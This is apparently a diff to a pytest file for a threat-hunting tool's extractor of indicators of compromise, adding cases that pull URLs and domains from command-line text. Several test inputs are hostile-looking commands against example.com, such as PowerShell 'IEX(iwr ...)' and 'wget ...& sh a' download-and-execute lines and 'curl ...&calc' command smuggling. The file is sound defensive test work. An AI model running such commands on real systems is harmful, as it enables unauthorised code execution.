@@ -5,6 +5,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from app.hunting import iocs
+from app.hunting.features import scan
 
 
 def found(*texts: str) -> dict[str, list[str]]:
@@ -19,6 +20,29 @@ def found(*texts: str) -> dict[str, list[str]]:
         ("iwr http://example.com/a.ps1 -OutFile a.ps1", "http://example.com/a.ps1"),
         ("iwr http://example.com/a.ps1;start a.ps1", "http://example.com/a.ps1"),
         ("IEX(iwr http://example.com/a.ps1)", "http://example.com/a.ps1"),
+        ("curl http://example.com/a&calc", "http://example.com/a"),
+        ("curl http://example.com/a&&calc", "http://example.com/a"),
+        ("curl http://example.com/a?b=1&calc.exe", "http://example.com/a?b=1"),
+        ("curl http://example.com/a?b=1&c=2&d", "http://example.com/a?b=1&c=2&d"),
+        ("curl http://example.com/a^&b&calc", "http://example.com/a&b"),
+        ("curl http://example.com/a?b=1^&c=2", "http://example.com/a?b=1&c=2"),
+        ("wget http://example.com/a& sh a", "http://example.com/a"),
+        ("<u>http://example.com/?a=1&amp;b=2</u>", "http://example.com/?a=1&b=2"),
+        ("'http://us$er:p,w!@example.com/x'", "http://us$er:p,w!@example.com/x"),
+        ("curl http://user:pa$$wd@example.com/x", "http://user:pa$$wd@example.com/x"),
+        ('"http://$u:$p@example.com/x"', "http://example.com/x"),
+        ("'http://example.com/a_(b)'", "http://example.com/a_(b)"),
+        ("(see http://example.com/a_(b))", "http://example.com/a_(b)"),
+        ("IEX(iwr http://example.com/a(b)c)", "http://example.com/a(b)c"),
+        ("[http://example.com/a[0]]", "http://example.com/a[0]"),
+        ("'http://[2001:db8::1]'", "http://[2001:db8::1]"),
+        ("'http://example.com/a is bad'", "http://example.com/a"),
+        ("'http://example.com/a.exe b.exe'", "http://example.com/a.exe"),
+        ("curl http://example.com/%COMPUTERNAME%/x", "http://example.com/"),
+        ('"x\\nhttp://example.com/a"', "http://example.com/a"),
+        ("u=%22http://example.com/a", "http://example.com/a"),
+        ("sftp://example.com/a", "sftp://example.com/a"),
+        ("hxxps://example.com/a", "https://example.com/a"),
         ("see http://example.com/a, or (http://example.com/b).", "http://example.com/a"),
         ("'http://user:pw@example.com:8080/x'", "http://user:pw@example.com:8080/x"),
         ("'http://[2001:db8::1]:8080/x'", "http://[2001:db8::1]:8080/x"),
@@ -51,10 +75,41 @@ def test_url_lists_are_taken_apart(separator: str) -> None:
 
 
 @pytest.mark.parametrize(
-    "text", ["http://", "http://$host/x", "http://{0}/x", "http://a:99999/x", "http://-/", "://x"]
+    "text",
+    [
+        "xhttp://example.com/x",
+        '"http://x.$d.example.com/"',
+        '"http://example.{0}/x"',
+        "'http://example.' + $tld",
+        "http://",
+        "http://$host/x",
+        "http://{0}/x",
+        "http://a:99999/x",
+        "http://-/",
+        "://x",
+    ],
 )
 def test_url_without_a_usable_host_is_none(text: str) -> None:
     assert "url" not in found(text)
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("iwr http://example.co", {}),
+        ("iwr http://example.com:80", {"domain": ["example.com"]}),
+        ("iwr http://example.com/a", {"url": ["http://example.com/a"], "domain": ["example.com"]}),
+        ("ping 192.0.2.1", {}),
+        ("ping example.co", {}),
+        ("iwr hxxp://example.co", {}),
+    ],
+)
+def test_name_at_the_end_of_a_cut_off_text_may_be_half_a_name(
+    text: str, expected: dict[str, list[str]]
+) -> None:
+    result: iocs.Iocs = {kind: {} for kind in iocs.KINDS}
+    iocs.add_from(iocs.cut_off(scan(text.encode())), result)
+    assert {kind: list(values) for kind, values in result.items() if values} == expected
 
 
 def test_url_hosts_are_reported_too() -> None:
